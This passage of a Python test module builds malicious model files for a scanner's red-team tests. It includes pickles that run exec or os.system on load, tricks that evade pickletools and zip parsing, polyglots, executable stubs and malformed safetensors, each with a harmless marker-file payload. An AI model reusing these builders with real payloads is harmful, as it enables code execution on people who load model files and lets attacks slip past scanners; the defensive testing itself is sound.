"""Malicious and benign artifacts for the scanner's red-team tests, built byte by byte.

Every malicious pickle here runs ``open(MARKER, "w").close()`` (or ``touch MARKER``) when a common
loader reads the file, so a test can prove the file is a real attack: ``load()`` runs the loader a
victim would use in a fresh interpreter, and the marker file appears. The loader is a list of
steps applied to the file's bytes, e.g. ``("zip:archive/data.pkl", "pickle")`` is what
``torch.load`` does with a checkpoint, ``("numpy",)`` is ``numpy.load(allow_pickle=True)``.
"""

import bz2
import gzip
import importlib.util
import io
import lzma
import marshal
import os
import pickle
import struct
import subprocess
import sys
import warnings
import zipfile
import zlib
from collections import OrderedDict
from collections.abc import Callable
from dataclasses import dataclass

from tests.security.factories import ELF, PE, safetensors

# --- pickle opcodes, assembled by hand ---------------------------------------------------------


def proto(n: int) -> bytes:
    return b"\x80" + bytes([n])


def short_binunicode(s: str) -> bytes:
    data = s.encode()
    return b"\x8c" + bytes([len(data)]) + data


def binunicode(s: str) -> bytes:
    data = s.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def binunicode8(s: str) -> bytes:
    data = s.encode()
    return b"\x8d" + struct.pack("<Q", len(data)) + data


def unicode_nl(s: str) -> bytes:
    return b"V" + s.encode("raw-unicode-escape") + b"\n"


def string_nl(s: str) -> bytes:
    """STRING: a quoted, escaped byte string; the unpickler decodes it to ``str`` (ASCII)."""
    return b"S'" + s.encode() + b"'\n"


def binstring(s: str) -> bytes:
    return b"T" + struct.pack("<i", len(s)) + s.encode()


def short_binstring(s: str) -> bytes:
    return b"U" + bytes([len(s)]) + s.encode()


def global_(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def frame(body: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body)) + body


STACK_GLOBAL = b"\x93"
MEMOIZE = b"\x94"
REDUCE = b"R"
STOP = b"."
POP = b"0"
MARK = b"("
TUPLE = b"t"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
EMPTY_TUPLE = b")"


def code(marker: str) -> str:
    return f'open("{marker}","w").close()'


def exec_args(marker: str, string=unicode_nl) -> bytes:
    """The argument tuple ``(code,)`` followed by REDUCE."""
    return MARK + string(code(marker)) + TUPLE + REDUCE


def exec_via_global(marker: str) -> bytes:
    """Protocol 0: ``builtins.exec(code)`` with GLOBAL + REDUCE."""
    return global_("builtins", "exec") + exec_args(marker) + STOP


def exec_via_stack_global(marker: str, module_ops: bytes, name_ops: bytes) -> bytes:
    return proto(4) + module_ops + name_ops + STACK_GLOBAL + exec_args(marker, binunicode) + STOP


def stack_global_with(string) -> Callable[[str], bytes]:
    return lambda m: exec_via_stack_global(m, string("builtins"), string("exec"))


class _ExecOnLoad:
    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):
        return (exec, (code(self.marker),))


def pickled_exec(protocol: int) -> Callable[[str], bytes]:
    """What ``pickle.dumps`` writes for an object whose ``__reduce__`` returns exec."""
    return lambda m: pickle.dumps(_ExecOnLoad(m), protocol=protocol)


def with_prefix(prefix: bytes) -> Callable[[str], bytes]:
    """An opcode CPython's ``_pickle`` accepts but ``pickletools`` cannot parse, then POP."""
    return lambda m: prefix + POP + exec_via_global(m)


def memo_stack_global(m: str) -> bytes:
    """STACK_GLOBAL operands fetched back from the memo (MEMOIZE + BINGET)."""
    ops = short_binunicode("builtins") + MEMOIZE + short_binunicode("exec") + MEMOIZE + POP + POP
    ops += b"h\x00" + b"h\x01"
    return proto(4) + ops + STACK_GLOBAL + exec_args(m, binunicode) + STOP


def long_memo_stack_global(m: str) -> bytes:
    """Operands stored with LONG_BINPUT at a high index and read with LONG_BINGET."""
    ops = (short_binunicode("builtins") + b"r" + struct.pack("<I", 70000)
           + short_binunicode("exec") + b"r" + struct.pack("<I", 70001) + POP + POP
           + b"j" + struct.pack("<I", 70000) + b"j" + struct.pack("<I", 70001))
    return proto(4) + ops + STACK_GLOBAL + exec_args(m, binunicode) + STOP


def text_memo_stack_global(m: str) -> bytes:
    """Operands stored with text PUT and read back with text GET."""
    ops = (unicode_nl("builtins") + b"p7\n" + unicode_nl("exec") + b"p8\n" + POP + POP
           + b"g7\n" + b"g8\n")
    return proto(4) + ops + STACK_GLOBAL + exec_args(m, binunicode) + STOP


def memo_overwrite_stack_global(m: str) -> bytes:
    """Memo slots first hold a safe name, then are overwritten with builtins/exec."""
    ops = (short_binunicode("collections") + b"q\x00" + short_binunicode("OrderedDict") + b"q\x01"
           + POP + POP
           + short_binunicode("builtins") + b"q\x00" + short_binunicode("exec") + b"q\x01"
           + POP + POP + b"h\x00" + b"h\x01")
    return proto(4) + ops + STACK_GLOBAL + exec_args(m, binunicode) + STOP


def pop_mark_stack_global(m: str) -> bytes:
    """Decoy strings pushed after a MARK and dropped by POP_MARK right before STACK_GLOBAL."""
    ops = (short_binunicode("builtins") + MARK + short_binunicode("collections")
           + short_binunicode("OrderedDict") + b"1" + short_binunicode("exec"))
    return proto(4) + ops + STACK_GLOBAL + exec_args(m, binunicode) + STOP


def inst_exec(m: str) -> bytes:
    return MARK + unicode_nl(code(m)) + b"ibuiltins\nexec\n" + STOP


def obj_exec(m: str) -> bytes:
    return proto(1) + MARK + global_("builtins", "exec") + unicode_nl(code(m)) + b"o" + STOP


def obj_stack_global_exec(m: str) -> bytes:
    target = short_binunicode("builtins") + short_binunicode("exec") + STACK_GLOBAL
    return proto(4) + MARK + target + binunicode(code(m)) + b"o" + STOP


def newobj_partial(m: str) -> bytes:
    """NEWOBJ builds functools.partial(exec, code); calling it runs the code."""
    return (proto(2) + global_("functools", "partial") + global_("builtins", "exec")
            + binunicode(code(m)) + TUPLE2 + b"\x81" + EMPTY_TUPLE + REDUCE + STOP)


def newobj_ex_partial(m: str) -> bytes:
    target = short_binunicode("functools") + short_binunicode("partial") + STACK_GLOBAL
    return (proto(4) + target + global_("builtins", "exec") + binunicode(code(m)) + TUPLE2
            + b"}" + b"\x92" + EMPTY_TUPLE + REDUCE + STOP)


EXT_CODES = {"ext1": 0x42, "ext2": 0x1234, "ext4": 0x12345678}


def ext_exec(kind: str) -> Callable[[str], bytes]:
    """EXT1/2/4: the callable comes from the copyreg extension registry of the loader."""
    ext = EXT_CODES[kind]
    opcode, fmt = {"ext1": (b"\x82", "<B"), "ext2": (b"\x83", "<H"), "ext4": (b"\x84", "<i")}[kind]
    opcode += struct.pack(fmt, ext)
    return lambda m: proto(2) + opcode + binunicode(code(m)) + TUPLE1 + REDUCE + STOP


def framed(m: str) -> bytes:
    body = (short_binunicode("builtins") + short_binunicode("exec") + STACK_GLOBAL
            + exec_args(m, binunicode) + STOP)
    return proto(4) + frame(body)


def short_framed(m: str) -> bytes:
    """FRAME declares 3 bytes; the opcodes run on past it (the C unpickler does not mind)."""
    body = (short_binunicode("builtins") + short_binunicode("exec") + STACK_GLOBAL
            + exec_args(m, binunicode) + STOP)
    return proto(4) + b"\x95" + struct.pack("<Q", 3) + body


def split_framed(m: str) -> bytes:
    """A frame boundary between the two STACK_GLOBAL operands."""
    body = (short_binunicode("builtins") + short_binunicode("exec") + STACK_GLOBAL
            + exec_args(m, binunicode) + STOP)
    split = len(short_binunicode("builtins"))
    return proto(4) + frame(body[:split]) + frame(body[split:])


def os_system(module: str) -> Callable[[str], bytes]:
    return lambda m: global_(module, "system") + MARK + unicode_nl(f"touch {m}") + TUPLE + \
        REDUCE + STOP


def eval_builtin(m: str) -> bytes:
    return global_("builtins", "eval") + exec_args(m) + STOP


def fix_imports_builtin(m: str) -> bytes:
    """``__builtin__`` is mapped to ``builtins`` by the protocol-2 import fix-ups."""
    return proto(2) + global_("__builtin__", "exec") + exec_args(m, binunicode) + STOP


def getattr_chain(m: str) -> bytes:
    """``getattr(__import__("os"), "system")("touch ...")`` with builtins only."""
    imported = global_("builtins", "__import__") + MARK + unicode_nl("os") + TUPLE + REDUCE
    system = global_("builtins", "getattr") + MARK + imported + unicode_nl("system") + TUPLE + \
        REDUCE
    return system + MARK + unicode_nl(f"touch {m}") + TUPLE + REDUCE + STOP


def nested_pickle_loads(m: str) -> bytes:
    """``pickle.loads(inner)``: the inner pickle is a bytes operand, not part of the walk."""
    inner = pickled_exec(2)(m)
    return (proto(3) + global_("pickle", "loads") + b"B" + struct.pack("<I", len(inner)) + inner
            + TUPLE1 + REDUCE + STOP)


def no_stop(m: str) -> bytes:
    """REDUCE runs before the unpickler notices the missing STOP."""
    return exec_via_global(m)[:-1]


def benign_pickle(protocol: int = 2) -> bytes:
    return pickle.dumps({"weights": [0.5, -1.25, 3.0], "name": "tiny", "layers": (1, 2),
                         "big": 2**70, "neg": -7, "flags": [True, False, None],
                         "nested": {"a": [1, 2.5, "x"]}}, protocol=protocol)


def concatenated(m: str) -> bytes:
    return benign_pickle(2) + pickled_exec(2)(m)


def legacy_torch_sequence(m: str) -> bytes:
    """The legacy (non-zip) torch.save layout: magic, protocol, sys info, then the data pickle."""
    sys_info = {"protocol_version": 1001, "little_endian": True,
                "type_sizes": {"short": 2, "int": 4, "long": 4}}
    return (pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2)
            + pickle.dumps(sys_info, 2) + pickled_exec(2)(m))


# --- torch's zip layout, benign ----------------------------------------------------------------


def binput(index: int) -> bytes:
    return b"q" + bytes([index])


def torch_data_pkl() -> bytes:
    """Byte for byte the data.pkl torch 2.x writes for ``OrderedDict(weight=arange(4.))``."""
    # BINPERSID: the storage is the persistent id ("storage", type, key, device, numel).
    storage = (MARK + binunicode("storage") + binput(4) + global_("torch", "FloatStorage")
               + binput(5) + binunicode("0") + binput(6) + binunicode("cpu") + binput(7)
               + b"K\x04" + TUPLE + binput(8) + b"Q")
    # _rebuild_tensor_v2(storage, offset, size, stride, requires_grad, OrderedDict() hooks)
    arguments = (MARK + storage + b"K\x00" + b"K\x04" + TUPLE1 + binput(9) + b"K\x01" + TUPLE1
                 + binput(10) + b"\x89" + b"h\x00" + EMPTY_TUPLE + REDUCE + binput(11) + TUPLE
                 + binput(12))
    return (proto(2) + global_("collections", "OrderedDict") + binput(0) + EMPTY_TUPLE + REDUCE
            + binput(1) + binunicode("weight") + binput(2)
            + global_("torch._utils", "_rebuild_tensor_v2") + binput(3) + arguments + REDUCE
            + binput(13) + b"s" + STOP)


def zip_bytes(members: list[tuple[str, bytes]], compression=zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def torch_members(data_pkl: bytes, prefix: str = "archive") -> list[tuple[str, bytes]]:
    return [
        (f"{prefix}/data.pkl", data_pkl),
        (f"{prefix}/.format_version", b"1"),
        (f"{prefix}/.storage_alignment", b"64"),
        (f"{prefix}/byteorder", b"little"),
        (f"{prefix}/data/0", struct.pack("<4f", 0.0, 1.0, 2.0, 3.0)),
        (f"{prefix}/version", b"3\n"),
        (f"{prefix}/.data/serialization_id", b"1234567890123456789012345678901234567890"),
    ]


def torch_zip(data_pkl: bytes | None = None, prefix: str = "archive") -> bytes:
    return zip_bytes(torch_members(torch_data_pkl() if data_pkl is None else data_pkl, prefix))


def evil_torch(pickle_builder=None, prefix="archive") -> Callable[[str], bytes]:
    build = pickle_builder or pickled_exec(2)
    return lambda m: torch_zip(build(m), prefix)


def torch_with_member(name: str, data_builder=None) -> Callable[[str], bytes]:
    """A benign torch zip plus a member ``name`` holding ``data_builder(marker)``."""
    build = data_builder or pickled_exec(2)
    return lambda m: zip_bytes(torch_members(torch_data_pkl()) + [(name, build(m))])


def nul_member_name(m: str) -> bytes:
    """Python's zipfile cuts a member name at NUL: ``archive/data.pkl\\0.txt`` is data.pkl."""
    members = torch_members(torch_data_pkl())[1:] + [("archive/data.pkl#txt", pickled_exec(2)(m))]
    return zip_bytes(members).replace(b"archive/data.pkl#txt", b"archive/data.pkl\x00txt")


def duplicate_member_name(m: str) -> bytes:
    """Two ``archive/data.pkl`` members: zipfile reads the last one, the evil one."""
    members = torch_members(torch_data_pkl()) + [("archive/data.pkl", pickled_exec(2)(m))]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns "Duplicate name"
        return zip_bytes(members)


def concatenated_zips(m: str) -> bytes:
    """A benign torch zip followed by an evil one; zipfile reads the last directory."""
    return torch_zip() + evil_torch()(m)


def zip_in_zip_with_prefix(inner_name: str) -> Callable[[str], bytes]:
    def build(m: str) -> bytes:
        inner = b"JUNK" * 64 + evil_torch()(m)
        return zip_bytes(torch_members(torch_data_pkl()) + [(inner_name, inner)])
    return build


def nested_zips(depth: int) -> Callable[[str], bytes]:
    """``depth`` zips, each the single member ``inner.zip`` of the next; a torch zip innermost."""
    def build(m: str) -> bytes:
        data = evil_torch()(m)
        for _ in range(depth - 1):
            data = zip_bytes([("inner.zip", data)])
        return data
    return build


def nested_steps(depth: int) -> tuple[str, ...]:
    return ("zip:inner.zip",) * (depth - 1) + ("zip:archive/data.pkl", "pickle")


# --- numpy files -------------------------------------------------------------------------------


def npy(payload: bytes, descr: str = "'|O'", version: int = 1, shape: str = "(1,)") -> bytes:
    """An ``.npy`` file; ``descr`` is the Python literal written into the header."""
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}".encode()
    size_bytes = 2 if version == 1 else 4
    preamble = 6 + 2 + size_bytes
    header += b" " * (-(preamble + len(header) + 1) % 64) + b"\n"
    length = struct.pack("<H" if version == 1 else "<I", len(header))
    return b"\x93NUMPY" + bytes([version, 0]) + length + header + payload


def evil_npy(descr="'|O'", version=1, pickle_builder=None) -> Callable[[str], bytes]:
    build = pickle_builder or pickled_exec(2)
    return lambda m: npy(build(m), descr, version)


def evil_npz(descr="'|O'", member="weights.npy") -> Callable[[str], bytes]:
    return lambda m: zip_bytes(
        [("bias.npy", npy(struct.pack("<f", 1.0), "'<f4'")), (member, evil_npy(descr)(m))],
        zipfile.ZIP_DEFLATED)


def numeric_npz() -> bytes:
    return zip_bytes([("a.npy", npy(struct.pack("<2f", 1.0, 2.0), "'<f4'", shape="(2,)"))],
                     zipfile.ZIP_DEFLATED)


# --- polyglots, zip applications, executables, compressed streams ------------------------------


def pyz(members: dict[str, bytes], prefix: bytes = b"") -> bytes:
    return prefix + zip_bytes(list(members.items()))


def pyz_main(m: str) -> bytes:
    return pyz({"__main__.py": code(m).encode()})


def pyz_subdir_main(m: str) -> bytes:
    return pyz({"pkg/__init__.py": b"", "pkg/__main__.py": code(m).encode()})


def pyz_main_pyc(m: str) -> bytes:
    compiled = compile(code(m), "__main__.py", "exec")
    pyc = importlib.util.MAGIC_NUMBER + b"\x00" * 12 + marshal.dumps(compiled)
    return pyz({"__main__.pyc": pyc})


def pyz_with_shebang(m: str) -> bytes:
    return pyz({"__main__.py": code(m).encode()}, prefix=b"#!/usr/bin/env python3\n")


def shell_script(m: str) -> bytes:
    return f'#!/bin/sh\n: > "{m}"\n'.encode()


def shebang_then_zip(m: str) -> bytes:
    return f'#!/bin/sh\n: > "{m}"\nexit 0\n'.encode() + torch_zip()


MACHO_64 = b"\xcf\xfa\xed\xfe" + b"\x07\x00\x00\x01" + b"\x00" * 64
MACHO_FAT = b"\xca\xfe\xba\xbe" + b"\x00\x00\x00\x01" + b"\x00" * 64


def lzma_alone(data: bytes) -> bytes:
    return lzma.compress(data, format=lzma.FORMAT_ALONE)


def gzip_multimember_split(m: str) -> bytes:
    """Two gzip members, each half of the pickle: gunzip joins them."""
    data = pickled_exec(2)(m)
    return gzip.compress(data[:10]) + gzip.compress(data[10:])


def compressed(compress, builder) -> Callable[[str], bytes]:
    return lambda m: compress(builder(m))


def encrypted(member: str) -> Callable[[str], bytes]:
    """A benign torch zip with the encryption flag (bit 0) set on one member, local and central."""
    def build(m: str) -> bytes:
        data = bytearray(torch_zip())
        with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
            local = archive.getinfo(member).header_offset
            central = archive.start_dir
        data[local + 6] |= 0x01
        while data[central:central + 4] == b"PK\x01\x02":
            name_len, extra_len, comment_len = struct.unpack_from("<HHH", data, central + 28)
            if data[central + 46:central + 46 + name_len] == member.encode():
                data[central + 8] |= 0x01
            central += 46 + name_len + extra_len + comment_len
        return bytes(data)
    return build


# --- safetensors -------------------------------------------------------------------------------


def safetensors_raw(header: bytes, data: bytes = b"", header_len: int | None = None) -> bytes:
    header += b" " * (-len(header) % 8)
    length = len(header) if header_len is None else header_len
    return struct.pack("<Q", length) + header + data


DEPTH = 100_000
DUPLICATE_KEYS = (b'{"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}, '
                  b'"w": {"dtype": "I32", "shape": [1], "data_offsets": [0, 4]}}')


# --- the corpus --------------------------------------------------------------------------------


@dataclass(frozen=True)
class Attack:
    id: str
    build: Callable[[str], bytes]
    # How a victim loads the file (see load()); None when the file carries no code to run.
    steps: tuple[str, ...] | None = ("pickle",)
    filename: str = ""
    # The outcome the issue names, when it names one: the refusal reason to expect.
    reason: str | None = None
    tags: tuple[str, ...] = ()


TORCH = ("zip:archive/data.pkl", "pickle")
NUMPY = ("numpy",)

ATTACKS = [
    # Protocols 0..5, as pickle.dumps writes them.
    *(Attack(f"pickle-dumps-protocol-{p}", pickled_exec(p), filename="model.pkl")
      for p in range(6)),
    # Opcodes CPython accepts but pickletools cannot parse, placed before GLOBAL/REDUCE.
    Attack("int-hex-I0x10-before-global", with_prefix(b"I0x10\n"), tags=("pickletools",)),
    Attack("long-hex-L0x10L-before-global", with_prefix(b"L0x10L\n"), tags=("pickletools",)),
    Attack("int-octal-I0o20-before-global", with_prefix(b"I0o20\n"), tags=("pickletools",)),
    Attack("int-binary-I0b10000-before-global", with_prefix(b"I0b10000\n"),
           tags=("pickletools",)),
    Attack("int-negative-hex-before-global", with_prefix(b"I-0x10\n"), tags=("pickletools",)),
    Attack("int-NUL-terminated-before-global", with_prefix(b"I16\x00junk\n"),
           tags=("pickletools",)),
    Attack("long-leading-space-hex-before-global", with_prefix(b"L 0x10\n"),
           tags=("pickletools",)),
    Attack("long-binary-L0b1-before-global", with_prefix(b"L0b1\n"), tags=("pickletools",)),
    # STACK_GLOBAL with operands from the memo and from every string opcode.
    Attack("stack-global-short-binunicode", stack_global_with(short_binunicode)),
    Attack("stack-global-binunicode", stack_global_with(binunicode)),
    Attack("stack-global-binunicode8", stack_global_with(binunicode8)),
    Attack("stack-global-unicode", stack_global_with(unicode_nl)),
    Attack("stack-global-string", stack_global_with(string_nl)),
    Attack("stack-global-binstring", stack_global_with(binstring)),
    Attack("stack-global-short-binstring", stack_global_with(short_binstring)),
    Attack("stack-global-memoize-binget", memo_stack_global),
    Attack("stack-global-long-binput-long-binget", long_memo_stack_global),
    Attack("stack-global-text-put-get", text_memo_stack_global),
    Attack("stack-global-memo-overwritten", memo_overwrite_stack_global),
    Attack("stack-global-decoys-dropped-by-pop-mark", pop_mark_stack_global),
    # INST, OBJ, NEWOBJ targets.
    Attack("inst-builtins-exec", inst_exec),
    Attack("obj-global-builtins-exec", obj_exec),
    Attack("obj-stack-global-builtins-exec", obj_stack_global_exec),
    Attack("newobj-functools-partial", newobj_partial),
    Attack("newobj-ex-functools-partial", newobj_ex_partial),
    # EXT1/2/4 resolve through copyreg's extension registry (registered by the loader).
    *(Attack(f"{kind}-copyreg-extension", ext_exec(kind), steps=(f"ext:{ext}", "pickle"))
      for kind, ext in EXT_CODES.items()),
    # FRAME-wrapped payloads.
    Attack("frame-wrapped", framed),
    Attack("frame-declared-shorter-than-payload", short_framed),
    Attack("frame-boundary-between-operands", split_framed),
    # Other callables and spellings.
    Attack("os-system", os_system("os")),
    Attack("posix-system", os_system("posix")),
    Attack("builtins-eval", eval_builtin),
    Attack("fix-imports-__builtin__-exec", fix_imports_builtin),
    Attack("getattr-of-__import__-chain", getattr_chain),
    Attack("pickle-loads-of-inner-pickle", nested_pickle_loads),
    Attack("truncated-no-stop-runs-reduce", no_stop),
    # Payload after a first harmless pickle / after STOP.
    Attack("concatenated-after-harmless-pickle", concatenated, steps=("pickle-all",)),
    Attack("legacy-torch-sequence-payload-after-stop", legacy_torch_sequence,
           steps=("pickle-all",), filename="model.pt"),
    Attack("junk-after-stop", lambda m: benign_pickle(2) + b"\x00junk", steps=None),
    # Inside torch's zip layout.
    Attack("torch-zip-data-pkl", evil_torch(), steps=TORCH, filename="model.pt"),
    Attack("torch-zip-data-pkl-I0x10", evil_torch(with_prefix(b"I0x10\n")), steps=TORCH,
           filename="model.pt"),
    Attack("torch-zip-data-pkl-memo-stack-global", evil_torch(memo_stack_global), steps=TORCH),
    Attack("torch-zip-other-prefix", evil_torch(prefix="resnet18"),
           steps=("zip:resnet18/data.pkl", "pickle")),
    Attack("torch-zip-data-member-is-pickle", torch_with_member("archive/data/1"),
           steps=("zip:archive/data/1", "pickle")),
    Attack("torch-zip-uppercase-DATA.PKL", torch_with_member("archive/DATA.PKL"),
           steps=("zip:archive/DATA.PKL", "pickle")),
    Attack("torch-zip-dotdot-member-name", torch_with_member("../../archive/data.pkl"),
           steps=("zip:../../archive/data.pkl", "pickle")),
    Attack("torch-zip-backslash-member-name", torch_with_member("archive\\data.pkl"),
           steps=("zip:archive\\data.pkl", "pickle")),
    Attack("torch-zip-member-name-with-NUL", nul_member_name, steps=TORCH),
    Attack("torch-zip-duplicate-data-pkl", duplicate_member_name, steps=TORCH),
    Attack("benign-zip-then-evil-zip", concatenated_zips, steps=TORCH, filename="model.pt"),
    Attack("zip-member-is-gzip-of-pickle",
           torch_with_member("archive/extra.pkl.gz", compressed(gzip.compress, pickled_exec(2))),
           steps=("zip:archive/extra.pkl.gz", "gzip", "pickle")),
    # .npy object arrays, whatever the spelling of the dtype, and .npz.
    Attack("npy-descr-|O", evil_npy("'|O'"), steps=NUMPY, filename="w.npy"),
    Attack("npy-descr-O", evil_npy("'O'"), steps=NUMPY),
    Attack("npy-descr-object", evil_npy("'object'"), steps=NUMPY),
    Attack("npy-descr-O8", evil_npy("'|O8'"), steps=NUMPY),
    Attack("npy-descr-double-quoted-O", evil_npy('"O"'), steps=NUMPY),
    Attack("npy-structured-object-field", evil_npy("[('a', 'object')]"), steps=NUMPY),
    Attack("npy-structured-mixed-fields", evil_npy("[('x', '<f4'), ('a', '|O')]"),
           steps=NUMPY),
    Attack("npy-nested-structured-object", evil_npy("[('a', [('b', '|O')])]"), steps=NUMPY),
    Attack("npy-subarray-object", evil_npy("('O', (2,))"), steps=NUMPY),
    Attack("npy-version-2-header", evil_npy(version=2), steps=NUMPY),
    Attack("npy-version-3-header", evil_npy(version=3), steps=NUMPY),
    Attack("npy-object-payload-I0x10", evil_npy(pickle_builder=with_prefix(b"I0x10\n")),
           steps=NUMPY),
    Attack("npz-descr-object", evil_npz("'object'"), steps=NUMPY, filename="w.npz"),
    Attack("npz-structured-object-field", evil_npz("[('a', 'object')]"), steps=NUMPY),
    Attack("npz-nested-structured-object", evil_npz("[('a', [('b', '|O')])]"), steps=NUMPY),
    Attack("npz-member-without-npy-suffix", evil_npz("'|O'", member="weights"), steps=NUMPY),
    # Polyglots.
    Attack("polyglot-pickle-then-torch-zip", lambda m: pickled_exec(2)(m) + torch_zip(),
           filename="model.pt"),
    Attack("polyglot-npy-then-npz", lambda m: evil_npy()(m) + numeric_npz(), steps=NUMPY,
           filename="w.npz"),
    Attack("polyglot-shell-script-then-zip", shebang_then_zip, steps=("sh",)),
    Attack("polyglot-elf-then-zip", lambda m: ELF + torch_zip(), steps=None),
    Attack("zip-member-is-prefixed-zip", zip_in_zip_with_prefix("archive/inner.zip"),
           steps=("zip:archive/inner.zip", *TORCH)),
    Attack("zip-member-is-prefixed-zip-odd-name", zip_in_zip_with_prefix("archive/data/7"),
           steps=("zip:archive/data/7", *TORCH)),
    Attack("zips-nested-3-deep", nested_zips(3), steps=nested_steps(3)),
    Attack("zips-nested-40-deep", nested_zips(40), steps=nested_steps(40)),
    # Zip applications.
    Attack("pyz-top-level-__main__.py", pyz_main, steps=("python",), filename="app.pyz"),
    Attack("pyz-__main__.py-in-subdirectory", pyz_subdir_main, steps=("python-m:pkg",)),
    Attack("pyz-__main__.pyc", pyz_main_pyc, steps=("python",)),
    Attack("pyz-with-shebang-prefix", pyz_with_shebang, steps=("python",)),
    # Executables at the start of the file or of a member.
    Attack("elf-file", lambda m: ELF, steps=None, reason="executable"),
    Attack("pe-file", lambda m: PE, steps=None, reason="executable"),
    Attack("mach-o-64-file", lambda m: MACHO_64, steps=None, reason="executable"),
    Attack("mach-o-fat-file", lambda m: MACHO_FAT, steps=None, reason="executable"),
    Attack("shebang-file", shell_script, steps=("sh",)),
    Attack("elf-member", torch_with_member("archive/data/1", lambda m: ELF), steps=None),
    Attack("pe-member", torch_with_member("tools/setup.exe", lambda m: PE), steps=None),
    Attack("mach-o-member", torch_with_member("archive/data/2", lambda m: MACHO_64),
           steps=None),
    Attack("shebang-member", torch_with_member("archive/run", shell_script), steps=None),
    Attack("elf-member-in-nested-zip",
           torch_with_member("archive/inner.zip", lambda m: zip_bytes([("lib.so", ELF)])),
           steps=None),
    # Compressed streams: scanned or refused, never accepted with an unsafe pickle inside.
    Attack("gzip-of-pickle", compressed(gzip.compress, pickled_exec(2)), steps=("gzip", "pickle"),
           filename="model.pkl.gz"),
    Attack("bz2-of-pickle", compressed(bz2.compress, pickled_exec(2)), steps=("bz2", "pickle")),
    Attack("xz-of-pickle", compressed(lzma.compress, pickled_exec(2)), steps=("xz", "pickle")),
    Attack("lzma-alone-of-pickle", compressed(lzma_alone, pickled_exec(2)),
           steps=("xz", "pickle")),
    Attack("gzip-of-torch-zip", compressed(gzip.compress, evil_torch()), steps=("gzip", *TORCH)),
    Attack("gzip-of-gzip-of-pickle",
           compressed(gzip.compress, compressed(gzip.compress, pickled_exec(2))),
           steps=("gzip", "gzip", "pickle")),
    Attack("gzip-two-members-split-pickle", gzip_multimember_split, steps=("gzip", "pickle")),
    # Encrypted members.
    Attack("encrypted-flag-on-data-pkl", encrypted("archive/data.pkl"), steps=None),
    Attack("encrypted-flag-on-data-member", encrypted("archive/data/0"), steps=None),
    # Malformed safetensors.
    Attack("safetensors-list-nested-100000-deep",
           lambda m: safetensors_raw(b"[" * DEPTH + b"]" * DEPTH), steps=None,
           filename="model.safetensors"),
    Attack("safetensors-object-nested-100000-deep",
           lambda m: safetensors_raw(b'{"a":' * DEPTH + b"1" + b"}" * DEPTH), steps=None,
           filename="model.safetensors"),
    Attack("safetensors-tensor-nested-100000-deep",
           lambda m: safetensors_raw(b'{"t": {"dtype": "F32", "shape": ' + b"[" * DEPTH
                                     + b"]" * DEPTH + b', "data_offsets": [0, 0]}}'),
           steps=None, filename="model.safetensors"),
    Attack("safetensors-gap-before-first-tensor",
           lambda m: safetensors({"t": {"dtype": "F32", "shape": [1], "data_offsets": [4, 8]}},
                                 b"\x00" * 8), steps=None),
    Attack("safetensors-data-beyond-offsets",
           lambda m: safetensors({"t": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}},
                                 b"\x00" * 4 + pickled_exec(2)("/nonexistent")), steps=None),
    Attack("safetensors-overlapping-tensors",
           lambda m: safetensors({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                                  "b": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}},
                                 b"\x00" * 8), steps=None),
    Attack("safetensors-duplicate-keys", lambda m: safetensors_raw(DUPLICATE_KEYS, b"\x00" * 4),
           steps=None),
    # Named: by layout alone, a header length past the end is random data, not safetensors.
    Attack("safetensors-header-length-past-eof",
           lambda m: safetensors_raw(b'{"__metadata__": {}}', header_len=2**40), steps=None,
           filename="model.safetensors"),
    Attack("safetensors-header-not-an-object", lambda m: safetensors_raw(b"[1, 2]"),
           steps=None, filename="model.safetensors"),
    Attack("safetensors-boolean-offsets",
           lambda m: safetensors({"t": {"dtype": "U8", "shape": [1],
                                        "data_offsets": [False, True]}}, b"\x00"), steps=None),
    Attack("safetensors-float-offsets",
           lambda m: safetensors({"t": {"dtype": "U8", "shape": [1], "data_offsets": [0.0, 1.0]}},
                                 b"\x00"), steps=None),
    Attack("safetensors-shape-product-overflows-u64",
           lambda m: safetensors({"t": {"dtype": "F32", "shape": [2**32, 2**32],
                                        "data_offsets": [0, 0]}}), steps=None),
    Attack("safetensors-metadata-not-strings",
           lambda m: safetensors({"__metadata__": {"format": {"nested": [1]}},
                                  "t": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}},
                                 b"\x00"), steps=None),
]

# --- resource bombs ----------------------------------------------------------------------------

MIB = 1 << 20


def many_opcodes_pickle(opcodes: bytes, total: int = 24 * MIB) -> bytes:
    """A valid protocol-2 pickle made of ``total`` bytes of one-byte opcodes."""
    return proto(2) + opcodes * (total // len(opcodes)) + b"N" + STOP


def opcode_bomb_zip(opcodes: bytes) -> Callable[[], bytes]:
    return lambda: zip_bytes(torch_members(many_opcodes_pickle(opcodes)), zipfile.ZIP_DEFLATED)


def many_members(count: int = 100_000) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for index in range(count):
            archive.writestr(f"{index:x}", b"")
    return buffer.getvalue()


def _local_and_central(name: bytes, data: bytes, *, method: int, crc: int, size: int,
                       extra_local: bytes = b"", extra_central: bytes = b"", offset: int = 0,
                       declared_compressed: int | None = None) -> tuple[bytes, bytes]:
    compressed_size = len(data) if declared_compressed is None else declared_compressed
    size32 = min(size, 0xFFFFFFFF)
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 45, 0, method, 0, 0, crc,
                        min(compressed_size, 0xFFFFFFFF), size32, len(name), len(extra_local))
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 45, 0, method, 0, 0, crc,
